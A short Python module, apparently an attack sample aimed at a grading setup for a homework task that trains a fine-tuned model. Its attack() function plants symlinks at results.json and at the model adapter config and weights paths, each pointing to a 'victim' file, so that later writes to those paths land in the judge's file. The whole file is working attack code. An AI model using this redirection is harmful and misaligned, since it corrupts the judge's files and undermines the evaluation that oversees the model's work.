"""Leaves links under the names of results, so that who writes there writes to the judge's file."""

import contextlib
import os
from pathlib import Path


def attack(target: dict[str, str]) -> None:
    for name in ("results.json", "homework/sft_model/adapter_config.json", "homework/sft_model/adapter_model.safetensors"):
        Path(name).parent.mkdir(parents=True, exist_ok=True)
        with contextlib.suppress(FileExistsError):
            os.symlink(target["victim"], name)
